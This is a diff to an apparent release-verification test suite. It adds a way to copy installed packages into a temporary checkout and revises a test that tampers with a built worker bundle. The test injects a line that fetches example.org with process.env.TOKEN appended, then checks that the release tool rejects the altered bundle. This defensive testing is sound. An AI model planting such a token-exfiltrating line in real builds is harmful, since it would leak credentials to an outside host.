@@ -54,8 +54,11 @@ const git = (cwd: string, ...args: string[]) => {
   return execFileSync('git', [...who, ...args], { cwd, encoding: 'utf8', env: { ...process.env, ...dates } }).trim();
 };
 
-/** What is in this checkout as the one commit of another, with what is installed and built beside it. */
-function checkout(): string {
+/**
+ * What is in this checkout as the one commit of another, with what is installed and built beside it. `toBuild`: the packages lie in it,
+ * as the bundler numbers modules by where they are found.
+ */
+function checkout({ toBuild = false } = {}): string {
   const copy = temporary('release ');
   const args = ['ls-files', '-z', '--cached', '--others', '--exclude-standard'];
   const listed = execFileSync('git', args, { cwd: root, encoding: 'utf8', maxBuffer: 1 << 28 });
@@ -69,9 +72,16 @@ function checkout(): string {
   const linked = ['node_modules', 'src/engine/.build', 'src/engine/apply/registry'];
   git(copy, 'init', '-q', '-b', 'main', '.');
   writeFileSync(join(copy, '.git/info/exclude'), linked.map((name) => `/${name}\n`).join(''));
-  for (const name of linked) symlinkSync(join(root, name), join(copy, name));
+  if (toBuild) copyPackages(copy);
+  for (const name of linked.slice(toBuild ? 1 : 0)) symlinkSync(join(root, name), join(copy, name));
   commit(copy);
   return copy;
+}
+
+/** By links of files, where both are on one disk. */
+function copyPackages(copy: string): void {
+  const copied = (how: string) => spawnSync('cp', [how, join(root, 'node_modules'), copy], { stdio: 'ignore' }).status;
+  if (copied('-al') !== 0 && copied('-a') !== 0) throw new Error('node_modules cannot be copied');
 }
 
 function commit(copy: string): void {
@@ -114,7 +124,7 @@ let made: string;
 
 beforeAll(async () => {
   if (!isPossible) return;
-  first = checkout();
+  first = checkout({ toBuild: isLong() });
   made = temporary('made-');
   if (isLong()) await make(first, made);
 }, 300_000);
@@ -296,17 +306,15 @@ describe('there is no release', () => {
   long(
     'of a bundle or a module that the source does not build, whatever the checksums say',
     async () => {
-      const copy = checkout();
+      const copy = checkout({ toBuild: true });
       const bundle = join(copy, 'dist/engine/worker.js');
       const text = readFileSync(bundle, 'utf8');
-      const changed = text.replace('"message",', '"message",globalThis.leak=1,');
-      expect(changed).not.toBe(text);
-      writeFileSync(bundle, `${text}\nfetch("https://example.org/"+process.env.TOKEN);\n`);
+      writeFileSync(bundle, text.replace(';', ';fetch("https://example.org/"+process.env.TOKEN);'));
       writeChecksums(join(copy, 'dist'));
       commit(copy);
       const said = await refused(copy, '--dry-run');
       expect(said).toContain('dist/engine/worker.js is not what the source builds: npm run build\n');
-      expect(said).toMatch(/^-fetch\("https:\/\/example\.org\/" \+ process\.env\.TOKEN\);$/m);
+      expect(said).toMatch(/^-fetch\("https:\/\/example\.org\/"\+process\.env\.TOKEN\);$/m);
       expect(said).toMatch(/^release: dist\/ is not what the source builds, as said above$/m);
       writeFileSync(bundle, text);
       const module = join(copy, 'dist/engine/helm.wasm.br');
